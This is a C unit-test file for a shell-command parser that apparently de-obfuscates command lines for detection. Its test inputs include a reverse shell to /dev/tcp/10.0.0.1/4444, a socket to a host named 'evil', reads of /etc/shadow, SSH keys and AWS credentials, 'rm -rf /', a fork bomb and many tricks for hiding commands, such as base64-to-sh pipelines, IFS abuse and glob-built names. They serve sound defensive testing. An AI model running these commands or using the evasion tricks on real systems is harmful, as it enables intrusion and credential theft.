/* shparse: what a command line really runs, once quoting and expansion are resolved. */
#include <stdint.h>
#include <stdlib.h>

#include "shparse.h"
#include "t.h"

static char *const test_env[] = {"PATH=/usr/local/bin:/usr/bin:/bin",
				 "HOME=/home/alice",
				 "EMPTY=",
				 "REF=HOME",
				 "LOWER=cat",
				 NULL};

struct res {
	struct sh_parse p;
	char all[2048];
};

static void parse(const char *src, struct res *r)
{
	struct sh_env *e = sh_env_new(test_env);

	sh_parse(src, strlen(src), e, &r->p);
	sh_render(&r->p, 0, r->p.ncmd, r->all, sizeof(r->all));
	sh_env_free(e);
}

/* argv of command i joined by single spaces */
static void joined(const struct sh_cmd *c, char *buf, size_t len)
{
	size_t o = 0;

	buf[0] = '\0';
	for (size_t j = 0; j < c->argc && o < len; j++)
		o += (size_t)snprintf(buf + o, len - o, "%s%s", j ? " " : "", c->argv[j]);
}

/* Index of the first command whose words are exactly want, or -1. */
static int find_cmd(const struct sh_parse *p, const char *want)
{
	char b[1024];

	for (size_t i = 0; i < p->ncmd; i++) {
		joined(&p->cmd[i], b, sizeof(b));
		if (strcmp(b, want) == 0)
			return (int)i;
	}
	return -1;
}

/* src resolves to a command want, with all of the obfuscation bits must. */
static int resolves(const char *src, const char *want, unsigned must)
{
	struct res r;
	int k, ok;

	parse(src, &r);
	k = find_cmd(&r.p, want);
	ok = k >= 0 && (r.p.obf & must) == must && !r.p.error;
	if (!ok)
		fprintf(stderr, "  %s -> [%s] obf %#x err %d (%s); want [%s] +%#x\n", src, r.all,
			r.p.obf, r.p.error, r.p.errmsg, want, must);
	sh_parse_free(&r.p);
	return ok;
}

/* src parses with no obfuscation bits at all and the command want. */
static int plain(const char *src, const char *want)
{
	struct res r;
	int ok;

	parse(src, &r);
	ok = find_cmd(&r.p, want) >= 0 && r.p.obf == 0 && !r.p.error;
	if (!ok)
		fprintf(stderr, "  %s -> [%s] obf %#x err %d; want plain [%s]\n", src, r.all,
			r.p.obf, r.p.error, want);
	sh_parse_free(&r.p);
	return ok;
}

TEST(shparse_quote_removal)
{
	ASSERT_TRUE(resolves("c''at /etc/passwd", "cat /etc/passwd", SH_OB_EMPTY_QUOTE));
	ASSERT_TRUE(resolves("c\"\"at /etc/passwd", "cat /etc/passwd", SH_OB_EMPTY_QUOTE));
	ASSERT_TRUE(resolves("c\"a\"t /etc/passwd", "cat /etc/passwd", SH_OB_QUOTE_SPLIT));
	ASSERT_TRUE(resolves("'c'at /etc/passwd", "cat /etc/passwd", SH_OB_QUOTE_SPLIT));
	ASSERT_TRUE(plain("echo 'hello world' \"two words\"", "echo hello world two words"));
	ASSERT_TRUE(plain("git commit -m \"fix: a b\"", "git commit -m fix: a b"));
	ASSERT_TRUE(plain("grep --include=\"*.c\" -r x .", "grep --include=*.c -r x ."));
	ASSERT_TRUE(plain("echo \"it's\" 'say \"hi\"'", "echo it's say \"hi\""));
}

TEST(shparse_backslash_escapes)
{
	ASSERT_TRUE(resolves("c\\a\\t /e\\tc/pa\\sswd", "cat /etc/passwd", SH_OB_ESCAPE));
	ASSERT_TRUE(plain("echo a\\ b", "echo a b"));
	ASSERT_TRUE(plain("find . -name \\*.c", "find . -name *.c"));
	ASSERT_TRUE(plain("echo \"a\\\"b\\$c\"", "echo a\"b$c"));
	/* line continuation */
	ASSERT_TRUE(plain("ls \\\n -la", "ls -la"));
}

TEST(shparse_ansi_c_strings)
{
	struct res r;

	ASSERT_TRUE(resolves("$'\\x63\\141\\u0074' /etc/passwd", "cat /etc/passwd", SH_OB_ANSIC));
	ASSERT_TRUE(resolves("$'\\143at' /etc/passwd", "cat /etc/passwd", SH_OB_ANSIC));
	ASSERT_TRUE(resolves("ca$'\\U00000074' x", "cat x", SH_OB_ANSIC));
	/* \n and \t are everyday uses, not hiding */
	parse("printf $'a\\tb\\n'", &r);
	ASSERT_EQ(r.p.obf, 0);
	ASSERT_STREQ(r.p.cmd[0].argv[1], "a\tb\n");
	sh_parse_free(&r.p);
	/* non-ASCII from \u is UTF-8 */
	parse("echo $'\\u00e9'", &r);
	ASSERT_STREQ(r.p.cmd[0].argv[1], "\xc3\xa9");
	sh_parse_free(&r.p);
}

TEST(shparse_empty_insertions)
{
	ASSERT_TRUE(resolves("c${EMPTY}at /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("c${UNSET_X}at /etc/passwd", "cat /etc/passwd", SH_OB_EMPTY_VAR));
	ASSERT_TRUE(resolves("c$@at /etc/passwd", "cat /etc/passwd", SH_OB_EMPTY_VAR));
	ASSERT_TRUE(resolves("c$*at /etc/passwd", "cat /etc/passwd", SH_OB_EMPTY_VAR));
	ASSERT_TRUE(resolves("ca$()t /etc/passwd", "cat /etc/passwd", SH_OB_EMPTY_VAR));
	ASSERT_TRUE(resolves("c\"${UNSET_X}\"at /etc/passwd", "cat /etc/passwd", 0));
	/* an unset variable at a word's edge is a default path, not a trick */
	ASSERT_TRUE(plain("ls ${PREFIX}/bin $DESTDIR/usr", "ls /bin /usr"));
	/* "$@" alone with no parameters is no word at all */
	ASSERT_TRUE(resolves("cat \"$@\" /etc/passwd", "cat /etc/passwd", 0));
}

TEST(shparse_variables_from_env_and_line)
{
	ASSERT_TRUE(plain("cat $HOME/.ssh/id_rsa", "cat /home/alice/.ssh/id_rsa"));
	ASSERT_TRUE(plain("cat ${HOME}/.aws/credentials", "cat /home/alice/.aws/credentials"));
	ASSERT_TRUE(resolves("a=c; b=at; $a$b /etc/passwd", "cat /etc/passwd", SH_OB_VAR_CMD));
	ASSERT_TRUE(resolves("a=c b=at; $a$b /etc/passwd", "cat /etc/passwd", SH_OB_VAR_CMD));
	ASSERT_TRUE(resolves("x=ca; x+=t; $x /etc/passwd", "cat /etc/passwd", SH_OB_VAR_CMD));
	ASSERT_TRUE(resolves("export P=/etc/passwd; cat $P", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("c=cat; unset c; ${c:-ls} x", "ls x", 0));
	ASSERT_TRUE(resolves("for c in cat; do $c /etc/passwd; done", "cat /etc/passwd", 0));
}

TEST(shparse_parameter_operators)
{
	ASSERT_TRUE(resolves("echo ${PATH:0:1}", "echo /", SH_OB_VAR_OP));
	ASSERT_TRUE(
	    resolves("${LOWER} ${PATH:0:1}etc${PATH:0:1}passwd", "cat /etc/passwd", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("echo ${PATH: -3}", "echo bin", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("echo ${HOME:6}", "echo alice", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("echo ${HOME:1:-6}", "echo home", SH_OB_VAR_OP));
	/* length, pattern removal and replacement are everyday scripting in arguments... */
	ASSERT_TRUE(plain("echo ${#HOME}", "echo 11"));
	ASSERT_TRUE(plain("echo ${HOME##*/} ${HOME%/*}", "echo alice /home"));
	ASSERT_TRUE(plain("echo ${HOME/alice/bob}", "echo /home/bob"));
	ASSERT_TRUE(plain("f=a.c; gcc -c $f -o ${f%.c}.o", "gcc -c a.c -o a.o"));
	/* ...and hiding when they build the command name */
	ASSERT_TRUE(resolves("x=cat.bak; ${x%.bak} /etc/passwd", "cat /etc/passwd", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("x=c-a-t; ${x//-/} /etc/passwd", "cat /etc/passwd", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("x=CAT; ${x,,} /etc/passwd", "cat /etc/passwd", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("echo ${!REF}", "echo /home/alice", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("${NOPE:-cat} /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("echo ${NOPE:=x}; echo $NOPE", "echo x", 0));
	ASSERT_TRUE(resolves("echo ${PATH:$((2-2)):1}", "echo /", SH_OB_VAR_OP));
	ASSERT_TRUE(resolves("echo $((6*7)) $((1+2*3)) $(( (1+2)*3 ))", "echo 42 7 9", 0));
}

TEST(shparse_brace_expansion)
{
	ASSERT_TRUE(resolves("{cat,/etc/passwd}", "cat /etc/passwd", SH_OB_BRACE_CMD));
	ASSERT_TRUE(plain("echo {a,b}c", "echo ac bc"));
	ASSERT_TRUE(plain("echo x{1..3}", "echo x1 x2 x3"));
	ASSERT_TRUE(plain("echo {c..a}", "echo c b a"));
	ASSERT_TRUE(plain("mkdir -p src/{lib,bin}", "mkdir -p src/lib src/bin"));
	ASSERT_TRUE(plain("echo {a,{b,c}}d", "echo ad bd cd"));
	/* not brace expansions: no comma, quoted, ${..} */
	ASSERT_TRUE(plain("find . -exec ls {} ;", "find . -exec ls {}"));
	ASSERT_TRUE(plain("echo '{a,b}' ${HOME}", "echo {a,b} /home/alice"));
}

TEST(shparse_command_substitution_decoders)
{
	ASSERT_TRUE(resolves("$(echo cat) /etc/passwd", "cat /etc/passwd", SH_OB_CMDSUB_CMD));
	ASSERT_TRUE(resolves("`echo cat` /etc/passwd", "cat /etc/passwd", SH_OB_CMDSUB_CMD));
	ASSERT_TRUE(resolves("$(echo $(echo ca)t) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(printf '\\x63\\x61\\x74') /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(printf '%s%s' ca t) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(echo -e '\\x63at') /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(echo Y2F0 | base64 -d) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(base64 -d <<< Y2F0) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(echo MNQXI=== | base32 -d) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(echo 636174 | xxd -r -p) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(echo tac | rev) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("$(echo png | tr a-z n-za-m) /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(
	    resolves("$(echo CAT | tr '[:upper:]' '[:lower:]') /etc/passwd", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("x=$(echo cat); $x /etc/passwd", "cat /etc/passwd", SH_OB_VAR_CMD));
	ASSERT_TRUE(resolves("printf -v c '\\x63\\x61\\x74'; $c /etc/passwd", "cat /etc/passwd",
			     SH_OB_VAR_CMD));
}

TEST(shparse_substitution_commands_are_recorded)
{
	struct res r;
	int k;

	/* The inner command runs too: it is in the list, marked as a substitution. */
	parse("echo $(cat /etc/shadow)", &r);
	k = find_cmd(&r.p, "cat /etc/shadow");
	ASSERT_TRUE(k >= 0);
	ASSERT_EQ(r.p.cmd[k].ctx, SH_CTX_CMDSUB);
	ASSERT_EQ(r.p.cmd[k].depth, 1);
	ASSERT_EQ(r.p.cmd[k].parent, find_cmd(&r.p, "echo"));
	sh_parse_free(&r.p);
	parse("diff <(cat /etc/shadow) x", &r);
	k = find_cmd(&r.p, "cat /etc/shadow");
	ASSERT_TRUE(k >= 0);
	ASSERT_EQ(r.p.cmd[k].ctx, SH_CTX_PROCSUB);
	sh_parse_free(&r.p);
}

TEST(shparse_ifs_changes)
{
	ASSERT_TRUE(resolves("IFS=,;cmd=cat,/etc/passwd;$cmd", "cat /etc/passwd", SH_OB_IFS));
	ASSERT_TRUE(resolves("IFS=_ ; x=cat_/etc/passwd; $x", "cat /etc/passwd", SH_OB_IFS));
	ASSERT_TRUE(resolves("cat${IFS}/etc/passwd", "cat /etc/passwd", SH_OB_IFS));
	ASSERT_TRUE(resolves("cat$IFS/etc/passwd", "cat /etc/passwd", SH_OB_IFS));
	ASSERT_TRUE(resolves("cat${IFS%??}/etc/passwd", "cat /etc/passwd", SH_OB_IFS));
	/* IFS= and IFS=$'\n' (reading lines) are not tricks */
	ASSERT_TRUE(plain("while IFS= read -r l; do echo $l; done < f.txt", "echo"));
	ASSERT_TRUE(plain("IFS=$'\n'; ls", "ls"));
	/* quoted expansions are not split */
	ASSERT_TRUE(plain("x='a b'; echo \"$x\"", "echo a b"));
}

TEST(shparse_eval_and_shell_c_nesting)
{
	struct res r;
	int k;

	parse("eval \"c\"\"at /etc/passwd\"", &r);
	k = find_cmd(&r.p, "cat /etc/passwd");
	ASSERT_TRUE(k >= 0);
	ASSERT_EQ(r.p.cmd[k].ctx, SH_CTX_EVAL);
	sh_parse_free(&r.p);

	parse("bash -c \"sh -c 'cat /etc/passwd'\"", &r);
	k = find_cmd(&r.p, "cat /etc/passwd");
	ASSERT_TRUE(k >= 0);
	ASSERT_EQ(r.p.cmd[k].ctx, SH_CTX_SHELL_C);
	ASSERT_EQ(r.p.cmd[k].depth, 2);
	sh_parse_free(&r.p);

	ASSERT_TRUE(resolves("sh -c '$0 $1' cat /etc/passwd", "cat /etc/passwd", SH_OB_POSITIONAL));
	ASSERT_TRUE(resolves("sudo -u root bash -lc 'cat /etc/passwd'", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("eval $(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)", "cat /etc/passwd",
			     SH_OB_DECODED | SH_OB_EVAL));
}

TEST(shparse_decoded_payload_fed_to_shell)
{
	struct res r;
	int k;

	parse("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh", &r);
	k = find_cmd(&r.p, "cat /etc/passwd");
	ASSERT_TRUE(k >= 0);
	ASSERT_EQ(r.p.cmd[k].ctx, SH_CTX_DECODED);
	ASSERT_EQ(r.p.cmd[k].parent, find_cmd(&r.p, "sh"));
	ASSERT_TRUE(r.p.obf & SH_OB_DECODED);
	ASSERT_TRUE(r.p.cmd[find_cmd(&r.p, "base64 -d")].decoder);
	sh_parse_free(&r.p);

	ASSERT_TRUE(resolves("echo H4sIAAAAAAACA0tOLFHQTy1J1i9ILC4uT+ECANuttO4QAAAA | base64 -d | "
			     "gunzip | bash",
			     "cat /etc/passwd", SH_OB_DECODED));
	ASSERT_TRUE(resolves("printf '\\x63\\x61\\x74 /etc/passwd' | sh", "cat /etc/passwd",
			     SH_OB_DECODED));
	ASSERT_TRUE(
	    resolves("echo dwssap/cte/ tac | rev | bash -s", "cat /etc/passwd", SH_OB_DECODED));
	ASSERT_TRUE(resolves("bash <<< \"$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)\"",
			     "cat /etc/passwd", SH_OB_DECODED));
	ASSERT_TRUE(resolves("sh <<EOF\ncat /etc/passwd\nEOF\n", "cat /etc/passwd", SH_OB_DECODED));
	ASSERT_TRUE(resolves("source <(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)", "cat /etc/passwd",
			     SH_OB_DECODED));
	ASSERT_TRUE(resolves("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d > /tmp/x; sh /tmp/x",
			     "cat /etc/passwd", SH_OB_DECODED));
	ASSERT_TRUE(resolves("printf 'cat /etc/passwd' > r.sh && chmod +x r.sh && ./r.sh",
			     "cat /etc/passwd", SH_OB_DECODED));
	ASSERT_TRUE(resolves("echo /etc/passwd | xargs cat", "xargs cat /etc/passwd", 0));
}

TEST(shparse_pipelines_lists_and_redirections)
{
	struct res r;

	parse("a x | b && c || d; e & f", &r);
	ASSERT_EQ(r.p.ncmd, 6);
	ASSERT_EQ(r.p.cmd[0].sep, SH_SEP_PIPE);
	ASSERT_EQ(r.p.cmd[0].pipe_next, 1);
	ASSERT_EQ(r.p.cmd[1].pipe_prev, 0);
	ASSERT_EQ(r.p.cmd[1].sep, SH_SEP_AND);
	ASSERT_EQ(r.p.cmd[1].pipe_next, -1);
	ASSERT_EQ(r.p.cmd[2].sep, SH_SEP_OR);
	ASSERT_EQ(r.p.cmd[3].sep, SH_SEP_END);
	ASSERT_EQ(r.p.cmd[4].sep, SH_SEP_BG);
	sh_parse_free(&r.p);

	parse("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 2>/dev/null", &r);
	ASSERT_EQ(r.p.ncmd, 1);
	ASSERT_EQ(r.p.cmd[0].argc, 2);
	ASSERT_EQ(r.p.cmd[0].nredir, 3);
	ASSERT_STREQ(r.p.cmd[0].redir[0].op, ">&");
	ASSERT_STREQ(r.p.cmd[0].redir[0].text, "/dev/tcp/10.0.0.1/4444");
	ASSERT_EQ(r.p.cmd[1 - 1].redir[1].fd, 0);
	ASSERT_STREQ(r.p.cmd[0].redir[1].text, "1");
	ASSERT_EQ(r.p.cmd[0].redir[2].fd, 2);
	sh_parse_free(&r.p);

	parse("exec 3<>/dev/tcp/evil/80; cat <&3", &r);
	ASSERT_STREQ(r.p.cmd[0].redir[0].op, "<>");
	ASSERT_EQ(r.p.cmd[0].redir[0].fd, 3);
	ASSERT_STREQ(r.p.cmd[1].redir[0].op, "<&");
	sh_parse_free(&r.p);

	/* a quoted here-document is not expanded; an unquoted one is */
	parse("cat <<'EOF'\n$HOME\nEOF\ncat <<EOF\n$HOME\nEOF\n", &r);
	ASSERT_EQ(r.p.error, 0);
	ASSERT_STREQ(r.p.cmd[0].redir[0].text, "$HOME\n");
	ASSERT_STREQ(r.p.cmd[1].redir[0].text, "/home/alice\n");
	sh_parse_free(&r.p);
}

TEST(shparse_compound_commands)
{
	ASSERT_TRUE(resolves("if true; then rm -rf /; fi", "rm -rf /", 0));
	ASSERT_TRUE(resolves("while :; do cat /etc/passwd; done", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("{ cat /etc/passwd; }", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("(cd /tmp && cat /etc/passwd)", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("case x in x) cat /etc/passwd;; esac", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("f() { cat /etc/passwd; }; f", "cat /etc/passwd", 0));
	ASSERT_TRUE(resolves("function g { cat /etc/passwd; }", "cat /etc/passwd", 0));
}

TEST(shparse_fork_bomb_shape)
{
	struct res r;
	int n = 0;

	parse(":(){ :|:& };:", &r);
	ASSERT_EQ(r.p.error, 0);
	ASSERT_TRUE(r.p.cmd[0].funcdef);
	for (size_t i = 0; i < r.p.ncmd; i++)
		if (r.p.cmd[i].func && !strcmp(r.p.cmd[i].func, ":") && r.p.cmd[i].argc &&
		    !strcmp(r.p.cmd[i].argv[0], ":"))
			n++;
	ASSERT_EQ(n, 2);
	sh_parse_free(&r.p);
}

TEST(shparse_globbed_command_names)
{
	ASSERT_TRUE(
	    resolves("/?\?\?/c?t /etc/passwd", "/bin/cat /bin/cut /etc/passwd", SH_OB_GLOB_CMD));
	ASSERT_TRUE(resolves("/bin/ca[t] /etc/passwd", "/bin/cat /etc/passwd", SH_OB_GLOB_CMD));
	ASSERT_TRUE(resolves("/usr/bin/w?et x", "/usr/bin/wget x", SH_OB_GLOB_CMD));
	/* globs in arguments stay as written (the rules match them against paths) */
	ASSERT_TRUE(plain("ls *.c", "ls *.c"));
}

TEST(shparse_syntax_errors_are_reported)
{
	static const char *const bad[] = {"echo \"abc", "echo 'abc",  "echo $(ls",  "echo ${x",
					  "echo `ls",	"(echo a",    "echo a)",    "cat <<EOF\nx",
					  "{ echo a",	"echo $'abc", "f() { echo", "echo <(ls",
					  "ls >",	"echo ${}",   NULL};

	for (int i = 0; bad[i]; i++) {
		struct res r;

		parse(bad[i], &r);
		if (!r.p.error)
			fprintf(stderr, "  no error for: %s\n", bad[i]);
		ASSERT_TRUE(r.p.error);
		ASSERT_TRUE(r.p.errmsg[0] != '\0');
		sh_parse_free(&r.p);
	}
}

TEST(shparse_bounds)
{
	struct res r;
	char *s;
	size_t n = 0;

	/* nesting deeper than SH_MAX_DEPTH stops, marked truncated */
	s = malloc(4096);
	for (int i = 0; i < 40; i++)
		n += (size_t)sprintf(s + n, "$(echo ");
	n += (size_t)sprintf(s + n, "x");
	for (int i = 0; i < 40; i++)
		s[n++] = ')';
	s[n] = '\0';
	parse(s, &r);
	ASSERT_TRUE(r.p.truncated);
	for (size_t i = 0; i < r.p.ncmd; i++)
		ASSERT_TRUE(r.p.cmd[i].depth < SH_MAX_DEPTH);
	sh_parse_free(&r.p);
	free(s);

	/* brace bombs stop at SH_MAX_BRACE words */
	parse("echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", &r);
	ASSERT_TRUE(r.p.truncated);
	ASSERT_TRUE(r.p.cmd[0].argc <= SH_MAX_BRACE + 1);
	sh_parse_free(&r.p);
	parse("echo {1..99999}", &r);
	ASSERT_TRUE(r.p.cmd[0].argc <= SH_MAX_WORDS);
	sh_parse_free(&r.p);

	/* many commands */
	s = malloc(8001);
	for (int i = 0; i < 4000; i++)
		memcpy(s + 2 * i, "a;", 2);
	s[8000] = '\0';
	parse(s, &r);
	ASSERT_TRUE(r.p.truncated);
	ASSERT_TRUE(r.p.ncmd <= SH_MAX_CMDS);
	sh_parse_free(&r.p);
	free(s);

	/* input longer than SH_MAX_INPUT is cut */
	s = malloc(SH_MAX_INPUT + 100);
	memset(s, 'a', SH_MAX_INPUT + 99);
	s[SH_MAX_INPUT + 99] = '\0';
	parse(s, &r);
	ASSERT_TRUE(r.p.truncated);
	ASSERT_TRUE(strlen(r.p.cmd[0].argv[0]) <= SH_MAX_INPUT);
	sh_parse_free(&r.p);
	free(s);

	/* self-feeding decoders and eval loops end */
	parse("x='eval $x'; eval $x", &r);
	ASSERT_TRUE(r.p.truncated);
	sh_parse_free(&r.p);
}

/* Random input never crashes (run under ASan/UBSan by the unit-san suite). */
TEST(shparse_random_input_robustness)
{
	static const char *const toks[] = {"$(",
					   ")",
					   "`",
					   "'",
					   "\"",
					   "${",
					   "}",
					   "{",
					   ",",
					   "..",
					   "$'\\x",
					   "\\",
					   "|",
					   "&&",
					   ";",
					   "<<",
					   "EOF\n",
					   "<(",
					   ">&",
					   "$((",
					   "))",
					   "IFS=,",
					   "eval ",
					   "sh -c ",
					   "base64 -d",
					   "echo ",
					   "printf '\\x63",
					   "#",
					   "\n",
					   "a",
					   "/",
					   "*",
					   "?",
					   "[",
					   "$@",
					   "${PATH:0:1}",
					   "${#",
					   "${!",
					   "xxd -r -p",
					   "rev",
					   "tr a-z n-za-m",
					   "=",
					   " "};
	uint32_t x = 12345;
	struct sh_env *e = sh_env_new(test_env);

	for (int it = 0; it < 3000; it++) {
		char buf[256];
		size_t n = 0, want;
		struct sh_parse p;

		x = x * 1103515245u + 12345u;
		want = (x >> 8) % sizeof(buf);
		while (n < want) {
			x = x * 1103515245u + 12345u;
			if ((x >> 16) & 1) {
				const char *t = toks[(x >> 17) % (sizeof(toks) / sizeof(toks[0]))];
				size_t tl = strlen(t);

				if (n + tl >= sizeof(buf))
					break;
				memcpy(buf + n, t, tl);
				n += tl;
			} else {
				buf[n++] = (char)((x >> 20) & 0xff);
			}
		}
		sh_parse(buf, n, e, &p);
		ASSERT_TRUE(p.ncmd <= SH_MAX_CMDS);
		{
			char out[512];

			sh_render(&p, 0, p.ncmd, out, sizeof(out));
		}
		sh_parse_free(&p);
	}
	sh_env_free(e);
}
